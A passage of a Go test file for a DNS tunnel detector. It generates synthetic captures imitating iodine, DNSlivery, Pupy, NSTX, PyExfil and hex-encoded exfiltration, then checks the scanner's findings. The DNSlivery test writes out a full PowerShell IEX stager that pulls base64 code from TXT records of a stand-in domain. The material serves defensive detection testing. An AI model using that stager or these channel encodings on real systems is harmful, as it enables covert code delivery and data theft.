			testcap.Frame{Time: at, Link: testcap.Ethernet, Data: testcap.UDP(testcap.Ethernet, c, server, testcap.Query(id, name, testcap.TypeAAAA))},
			testcap.Frame{Time: at.Add(time.Millisecond), Link: testcap.Ethernet, Data: testcap.UDP(testcap.Ethernet, server, c,
				testcap.Response(id, name, testcap.TypeAAAA, 0, testcap.AnswerAddr(addr)))})
	}
	const chunks = 800
	stagerData := 0
	for i := 0; i < chunks; i++ {
		var b [16]byte
		for j := range b {
			b[j] = byte(rng.IntN(256)) ^ 0x5a
		}
		if x := b[0]; x != 0 && (x < 0x20 || x > 0x3f) && x < 0xfc {
			stagerData++
		}
		add(uint16(i), client, fmt.Sprintf("cdn%d.update-cache.net", i), netip.AddrFrom16(b))
		// Browsing: global unicast addresses of many names.
		host := fmt.Sprintf("img%d.static-site.org", i%97)
		web := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 1, 4, byte(1 + i%20)}), 5353)
		add(uint16(i), web, host, netip.AddrFrom16([16]byte{0x26, 0x06, 0x47, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0x68, 0x10, byte(i), byte(i >> 8)}))
	}
	dir := t.TempDir()
	testcap.WriteFile(t, filepath.Join(dir, "stager.pcap"), frames, "pcap")
	sum, out := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 1 {
		t.Fatalf("%d findings: %+v", len(sum.Findings), sum.Findings)
	}
	f := sum.Findings[0]
	if f.RegisteredDomain != "update-cache.net" || f.Verdict != "tunnel" || f.Severity != engine.SeverityMedium ||
		f.Features.DataAnswers != uint64(stagerData) || f.Features.DistinctAnswerBytes != uint64(16*stagerData) {
		t.Fatalf("finding %s %s %s (%d payload answers): %+v\n%q", f.Domain, f.Verdict, f.SeverityText, stagerData, f.Features, f.Evidence)
	}
	csv := readFile(t, filepath.Join(out, CSVName))
	if rows := strings.Count(csv, "\r\n") - 1; rows != 2*chunks || strings.Contains(csv, "static-site") {
		t.Fatalf("%d rows:\n%.600s", rows, csv)
	}
}

// TestPackedStagerFound: a payload served sixteen A records per answer to
// 40 numbered names (2.5 KB) is found through the whole path (the
// analyzer counts every A record and its first octet), and the learned
// model's evidence states the floor's reason once; a pool of numbered
// names answered from a few networks beside it is not.
func TestPackedStagerFound(t *testing.T) {
	rng := rand.New(rand.NewPCG(41, 42))
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	add := func(id uint16, c netip.AddrPort, name string, addrs []netip.Addr) {
		at := base.Add(time.Duration(len(frames)) * 20 * time.Millisecond)
		var answers []testcap.Answer
		for _, a := range addrs {
			answers = append(answers, testcap.AnswerAddr(a))
		}
		frames = append(frames,
			testcap.Frame{Time: at, Link: testcap.Ethernet, Data: testcap.UDP(testcap.Ethernet, c, server, testcap.Query(id, name, testcap.TypeA))},
			testcap.Frame{Time: at.Add(time.Millisecond), Link: testcap.Ethernet, Data: testcap.UDP(testcap.Ethernet, server, c,
				testcap.Response(id, name, testcap.TypeA, 0, answers...))})
	}
	for i := range 40 {
		addrs := make([]netip.Addr, 16)
		for j := range addrs {
			addrs[j] = netip.AddrFrom4([4]byte{byte(rng.IntN(256)), byte(rng.IntN(256)), byte(rng.IntN(256)), byte(rng.IntN(256))})
		}
		add(uint16(i), client, fmt.Sprintf("c%d.packed-stage.net", i), addrs)
		pool := []netip.Addr{netip.AddrFrom4([4]byte{10, 1, 2, byte(i)}), netip.AddrFrom4([4]byte{10, 1, 3, byte(i)})}
		add(uint16(i), client, fmt.Sprintf("web%02d.pool-example.org", i), pool)
	}
	dir := t.TempDir()
	testcap.WriteFile(t, filepath.Join(dir, "packed.pcap"), frames, "pcap")
	sum, _ := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 1 {
		t.Fatalf("%d findings: %+v", len(sum.Findings), sum.Findings)
	}
	f := sum.Findings[0]
	if f.RegisteredDomain != "packed-stage.net" || f.Verdict != "tunnel" || f.Severity != engine.SeverityMedium ||
		f.Features.NumberedNames != 37 || f.Features.NumberedAnswers != 37*16 {
		t.Fatalf("finding %s %s %s: %+v\n%q", f.Domain, f.Verdict, f.SeverityText, f.Features, f.Evidence)
	}
	words := "a payload served four bytes per A record"
	if n := strings.Count(strings.Join(f.Evidence, "\n"), words); n != 1 {
		t.Fatalf("the stager's words appear %d times:\n%s", n, strings.Join(f.Evidence, "\n"))
	}
}

// TestSampleChannelClients scans the bundled sample: the iodine tunnel
// under t.cdn-sync.net has one user, 10.53.1.2; three other hosts only
// looked up www and mx names of cdn-sync.net. They are listed after it
// as not using the channel, and domains.csv names the user alone.
func TestSampleChannelClients(t *testing.T) {
	sum, out := runScan(t, config.Default(), filepath.Join("..", "..", "testdata", "corpus", "sample.pcap"))
	if len(sum.Findings) != 1 {
		t.Fatalf("%d findings", len(sum.Findings))
	}
	f := sum.Findings[0]
	var got []string
	for _, c := range f.Clients {
		got = append(got, fmt.Sprintf("%s %v", c.Addr, c.UsesChannel))
	}
	if len(got) != 4 || got[0] != "10.53.1.2 true" || !slices.Equal(slices.Sorted(slices.Values(got[1:])),
		[]string{"10.53.1.10 false", "10.53.1.13 false", "10.53.1.15 false"}) {
		t.Errorf("clients %q", got)
	}
	if !strings.HasSuffix(f.Evidence[0], "from 4 client(s), 1 of them using the channel") {
		t.Errorf("headline %q", f.Evidence[0])
	}
	domains := readFile(t, filepath.Join(out, DomainsName))
	want := fmt.Sprintf("\r\nt.cdn-sync.net|cdn-sync.net|tunnel|high|%.3f|iodine|iodine|10.53.1.2|", f.Score)
	if !strings.Contains(domains, want) {
		t.Errorf("domains.csv lacks %q:\n%.300s", want, domains)
	}
}

// TestSearchDomainFromPackets: a pod asks 400 data-carrying names under
// its three Kubernetes search domains, then each on its own, in mixed case
// as resolvers that randomise it send them. The cluster's zone is no
// finding; the names' own domain, which carries their data, is the tunnel.
func TestSearchDomainFromPackets(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewPCG(21, 22))
	enc := base32.NewEncoding("abcdefghijklmnopqrstuvwxyz234567").WithPadding(base32.NoPadding)
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	pod, dns := netip.MustParseAddrPort("10.244.3.17:41000"), netip.MustParseAddrPort("10.96.0.10:53")
	var frames []testcap.Frame
	add := func(at time.Time, data []byte) {
		frames = append(frames, testcap.Frame{Time: at, Link: testcap.Ethernet, Data: data})
	}
	data := make([]byte, 30)
	id := uint16(0)
	for i := range 40 {
		for j := range data {
			data[j] = byte(rng.IntN(256))
		}
		name := enc.EncodeToString(data) + ".Data-Example.COM"
		at := base.Add(time.Duration(i) * 400 * time.Millisecond)
		for k, search := range []string{"payments.svc.cluster.local", "svc.Cluster.local", "cluster.local"} {
			id++
			q := name + "." + search
			add(at.Add(time.Duration(k)*time.Millisecond), testcap.UDP(testcap.Ethernet, pod, dns, testcap.Query(id, q, typeA)))
			add(at.Add(time.Duration(k)*time.Millisecond+300*time.Microsecond), testcap.UDP(testcap.Ethernet, dns, pod, testcap.Response(id, q, typeA, 3)))
		}
		id++
		add(at.Add(4*time.Millisecond), testcap.UDP(testcap.Ethernet, pod, dns, testcap.Query(id, strings.ToUpper(name[:3])+name[3:], typeA)))
		add(at.Add(30*time.Millisecond), testcap.UDP(testcap.Ethernet, dns, pod, testcap.Response(id, name, typeA, 0,
			testcap.AnswerAddr(netip.MustParseAddr("198.51.100.7")))))
	}
	testcap.WriteFile(t, filepath.Join(dir, "k8s.pcap"), frames, "pcap")
	sum, _ := runScan(t, config.Default(), dir)
	var got []string
	for _, f := range sum.Findings {
		if f.Severity >= engine.SeverityMedium {
			got = append(got, f.RegisteredDomain+" "+f.Verdict)
		}
	}
	if len(got) != 1 || got[0] != "data-example.com tunnel" {
		t.Fatalf("findings %q, want only data-example.com as a tunnel", got)
	}
}

// TestRawPacketsAmongMessages interleaves iodine raw-mode packets (not DNS,
// on port 53) with DNS queries in one batch: the collector, which looks
// ahead at the events to come to prefetch their state, must take every
// event once and in order, raw or message.
func TestRawPacketsAmongMessages(t *testing.T) {
	dir := t.TempDir()
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	add := func(data []byte) {
		frames = append(frames, testcap.Frame{Time: base.Add(time.Duration(len(frames)) * 50 * time.Millisecond), Link: testcap.Ethernet, Data: data})
	}
	ping := []byte{0x10, 0xd1, 0x9e, 0x30} // an iodine raw-mode ping (fingerprint tests)
	for i := range 120 {
		add(testcap.UDP(testcap.Ethernet, client, server, testcap.Query(uint16(i), fmt.Sprintf("www.site%d.example.org", i%30), typeA)))
		if i%3 == 0 {
			add(testcap.UDP(testcap.Ethernet, client, server, ping))
		}
	}
	testcap.WriteFile(t, filepath.Join(dir, "raw.pcap"), frames, "pcap")
	_, out := runScan(t, config.Default(), dir)
	var stats struct {
		Engine struct {
			Messages    uint64 `json:"messages"`
			RawMessages uint64 `json:"raw_messages"`
		} `json:"engine"`
		Total uint64 `json:"total_packets"`
	}
	if err := json.Unmarshal([]byte(readFile(t, filepath.Join(out, StatsName))), &stats); err != nil {
		t.Fatal(err)
	}
	if stats.Total != 160 || stats.Engine.Messages != 120 || stats.Engine.RawMessages != 40 {
		t.Fatalf("packets %d, engine messages %d and raw %d; want 160, 120 and 40", stats.Total, stats.Engine.Messages, stats.Engine.RawMessages)
	}
}

// TestNamesDNSliveryAndPupy: a 6 KB file fetched with DNSlivery's stager
// and a Pupy dnscnc session, beside office lookups, are found and named.
// The encodings follow dnslivery.py and picocmd (client.py, server.py):
// see internal/fingerprint/dnslivery.go and pupy.go.
func TestNamesDNSliveryAndPupy(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewPCG(5, 6))
	random := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
		return b
	}
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	victim := netip.MustParseAddrPort("10.1.1.5:51000")
	// DNSlivery: the stager, then the chunks it asks for.
	file := base64.StdEncoding.EncodeToString(random(6000))
	var chunks []string
	for len(file) > 255 {
		chunks, file = append(chunks, file[:255]), file[255:]
	}
	chunks = append(chunks, file)
	stager := fmt.Sprintf(`IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String((0..%d | %% {Resolve-DnsName -type TXT -Name "update-ps1.$_.dl.cdn-files.net" | Where-Object Section -eq Answer | Select -ExpandProperty Strings}))))`, len(chunks)-1)
	frames = append(frames, queryAnswer(base, victim, server, 1, "update-ps1.exec.dl.cdn-files.net", testcap.TypeTXT, 0, testcap.AnswerTXT(stager[:200], stager[200:]))...)
	for i, c := range chunks {
		at := base.Add(time.Duration(i+1) * 200 * time.Millisecond)
		frames = append(frames, queryAnswer(at, victim, server, uint16(10+i), fmt.Sprintf("update-ps1.%d.dl.cdn-files.net", i), testcap.TypeTXT, 0, testcap.AnswerTXT(c))...)
	}
	// Pupy: protocol 2 queries (nonce and node block, then the data),
	// each answered with a reply page.
	// picocmd's translation of base32: A-Z to a-z, 2-7 to 1-6, '=' to '9'.
	pupy := base32.NewEncoding("abcdefghijklmnopqrstuvwxyz123456").WithPadding('9').EncodeToString
	implant := netip.MustParseAddrPort("10.1.1.9:52000")
	for i := range 120 {
		name := pupy(random(17)) + "." + pupy(random(6+rng.IntN(29))) + ".ns.pupy-update.com"
		page := append([]byte{byte(5 + rng.IntN(40))}, random(45)...)
		var answers []testcap.Answer
		for idx := 0; idx*3 < int(page[0])+1; idx++ {
			bits := (uint32(page[idx*3])<<16 | uint32(page[idx*3+1])<<8 | uint32(page[idx*3+2])) << 1
			raw := uint32(1+rng.IntN(3))<<30 | uint32(idx)<<25 | bits
			if bits&6 == 0 {
				raw |= 1
			}
			answers = append(answers, testcap.AnswerAddr(netip.AddrFrom4([4]byte{byte(raw >> 24), byte(raw >> 16), byte(raw >> 8), byte(raw)})))
		}
		at := base.Add(time.Duration(i) * 30 * time.Second)
		frames = append(frames, queryAnswer(at, implant, server, uint16(1000+i), name, typeA, 0, answers...)...)
	}
	// The office around them.
	hosts := []string{"www.example.com", "mail.example.org", "login.microsoftonline.com", "api.github.com", "cdn.jsdelivr.net", "news.bbc.co.uk"}
	for i := range 600 {
		c := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 1, 2, byte(1 + rng.IntN(40))}), 40000)
		at := base.Add(time.Duration(i) * 6 * time.Second)
		frames = append(frames, queryAnswer(at, c, server, uint16(3000+i), hosts[rng.IntN(len(hosts))], typeA, 0, testcap.AnswerAddr(netip.AddrFrom4([4]byte{203, 0, 113, byte(i % 200)})))...)
	}
	sum, _ := scanInTimeOrder(t, dir, "tools.pcap", frames)
	got := map[string]string{}
	for _, f := range sum.Findings {
		if f.Severity < engine.SeverityMedium {
			t.Errorf("%s: %v", f.Domain, f.Severity)
		}
		got[f.Domain] = f.Tool
	}
	want := map[string]string{"dl.cdn-files.net": "dnslivery", "ns.pupy-update.com": "pupy"}
	if !maps.Equal(got, want) {
		t.Fatalf("findings and tools %v, want %v", got, want)
	}
}

// TestIdleNSTXFound: an NSTX tunnel that is up but idle sends only empty
// polls (its 4-byte header, 9 characters of its base64) answered with the
// header alone; no volume floor sees them, and the recognised protocol
// (nstx_encode.c, nstx_dns.c, nstxd.c: see internal/fingerprint/nstx.go)
// makes it a medium finding with every poll in out.csv.
func TestIdleNSTXFound(t *testing.T) {
	dir := t.TempDir()
	enc := base64.NewEncoding("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_1234567890").WithPadding(base64.NoPadding)
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	tunnel := netip.MustParseAddrPort("10.1.1.40:41000")
	for i := range 300 {
		// The header: magic, sequence nibble, a 12-bit id and flags;
		// two bytes of padding make whole groups ("c": two cut).
		hdr := []byte{0xb4, byte(i % 16), byte(i >> 4), byte(i>>12) & 0x0f, 0, 0}
		name := "c" + enc.EncodeToString(hdr) + ".tun.nstxdom.net"
		reply := testcap.Answer{Type: testcap.TypeTXT, TXT: []string{"\xb4\x00\x00\x00", ""}} // nstxd.c do_timeout
		frames = append(frames, queryAnswer(base.Add(time.Duration(i)*500*time.Millisecond), tunnel, server, uint16(i), name, typeTXT, 0, reply)...)
	}
	frames = append(frames, officeLookups(base, 300, 1000)...)
	sum, out := scanInTimeOrder(t, dir, "nstx.pcap", frames)
	if len(sum.Findings) != 1 {
		t.Fatalf("findings %+v", sum.Findings)
	}
	f := sum.Findings[0]
	if f.Domain != "tun.nstxdom.net" || f.Tool != "nstx" || f.Severity != engine.SeverityMedium {
		t.Fatalf("finding %s %s %s", f.Domain, f.Tool, f.SeverityText)
	}
	csv := readFile(t, filepath.Join(out, CSVName))
	if rows := strings.Count(csv, "nstxdom"); strings.Count(csv, "\r\n")-1 != 600 || rows != 600 {
		t.Fatalf("%d rows, %d of the tunnel:\n%.400s", strings.Count(csv, "\r\n")-1, rows, csv)
	}
}

// TestPyExfilFound: PyExfil's queries carry a file after their question
// (pyexfil/network/DNS/dns_exfil.py), straight to the server, every one
// asking for the server's own address. They are grouped by that server,
// named, and reported as "direct:<server>" with no zone in front (the
// name is not a domain's), every query in out.csv.
func TestPyExfilFound(t *testing.T) {
	dir := t.TempDir()
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	srv := netip.MustParseAddrPort("198.51.100.23:53")
	query := func(trail []byte) []byte {
		b := []byte{0x04, 0x06, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00}
		for _, l := range strings.Split(srv.Addr().String(), ".") {
			b = append(append(b, byte(len(l))), l...)
		}
		return append(append(b, 0, 0, 1, 0, 1), trail...)
	}
	term := []byte{0xcc, 0xcc, 0xcc, 0xcc, 0xff, 0xff, 0xff, 0xff}
	var frames []testcap.Frame
	add := func(trail []byte) {
		frames = append(frames, testcap.Frame{Time: base.Add(time.Duration(len(frames)) * 10 * time.Millisecond), Link: testcap.Ethernet,
			Data: testcap.UDP(testcap.Ethernet, client, srv, query(trail))})
	}
	add([]byte("INIT_445report.xlsx::-1234567\x00"))
	for i := range 38 {
		add(append(bytes.Repeat([]byte{byte(i), 0x9c, 0x4b, 0x2a}, 32), term...))
	}
	add(append(append(append([]byte(nil), term...), 0), term...))
	sum, out := scanInTimeOrder(t, dir, "pyexfil.pcap", frames)
	if len(sum.Findings) != 1 {
		t.Fatalf("findings %+v", sum.Findings)
	}
	if f := sum.Findings[0]; f.Domain != "direct:198.51.100.23" || f.Tool != "pyexfil" || f.Severity < engine.SeverityMedium {
		t.Fatalf("finding %s %s %s", f.Domain, f.Tool, f.SeverityText)
	}
	if rows := strings.Count(readFile(t, filepath.Join(out, CSVName)), "|tunnel domain direct:198.51.100.23"); rows != 40 {
		t.Fatalf("%d rows", rows)
	}
}

// TestHexTextExfilFound: a text file sent as `xxd -p -c 8` writes it (16
// hex digits a name), denied, from one host beside office lookups: its
// information after compression stays under the upstream floor (the text
// compresses), but names of hex that decode to text are found on their
// count (engine.TextFloor). Hosts named by 16 random hex digits, asked by
// one host and denied, are not.
func TestHexTextExfilFound(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewPCG(61, 62))
	var text []byte
	for i := 0; len(text) < 4000; i++ {
		text = fmt.Appendf(text, "%d,user%d,user%d@corp.example,%04d\n", i, i, i, rng.IntN(10000))
	}
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	victim := netip.MustParseAddrPort("10.1.1.5:51000")
	for i := 0; 8*i < len(text); i++ {
		name := hex.EncodeToString(text[8*i:min(len(text), 8*(i+1))]) + ".x.upd-metrics.com"
		frames = append(frames, queryAnswer(base.Add(time.Duration(i)*50*time.Millisecond), victim, server, uint16(i), name, typeA, 3)...)
	}
	scanner := netip.MustParseAddrPort("10.1.1.9:52000")
	for i := range 500 {
		b := make([]byte, 8)
		for j := range b {
			b[j] = byte(rng.Uint32())
		}
		frames = append(frames, queryAnswer(base.Add(time.Duration(i)*100*time.Millisecond), scanner, server, uint16(4000+i), hex.EncodeToString(b)+".nodes.cluster-probe.net", typeA, 3)...)
	}
	frames = append(frames, officeLookups(base, 600, 9000)...)
	sum, _ := scanInTimeOrder(t, dir, "xxd.pcap", frames)
	got := map[string]engine.Severity{}
	for _, f := range sum.Findings {
		got[f.RegisteredDomain] = f.Severity
		if f.RegisteredDomain == "upd-metrics.com" && !slices.ContainsFunc(f.Evidence, func(e string) bool { return strings.Contains(e, "hex that decodes to prose") }) {
			t.Errorf("evidence %q", f.Evidence)
		}
	}
	if got["upd-metrics.com"] < engine.SeverityMedium || got["cluster-probe.net"] != engine.SeverityNone {
		t.Fatalf("findings %v", got)
	}
}

// officeLookups is n lookups of four ordinary hosts by 30 office clients,
// one a second from base, answered with an address; query IDs from id.
func officeLookups(base time.Time, n int, id uint16) []testcap.Frame {
	hosts := []string{"www.example.com", "mail.example.org", "login.microsoftonline.com", "api.github.com"}
	var frames []testcap.Frame
	for i := range n {
		c := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 1, 2, byte(1 + i%30)}), 40000)
		frames = append(frames, queryAnswer(base.Add(time.Duration(i)*time.Second), c, server, id+uint16(i), hosts[i%len(hosts)], typeA, 0,
			testcap.AnswerAddr(netip.AddrFrom4([4]byte{203, 0, 113, byte(i % 50)})))...)
	}
	return frames
}
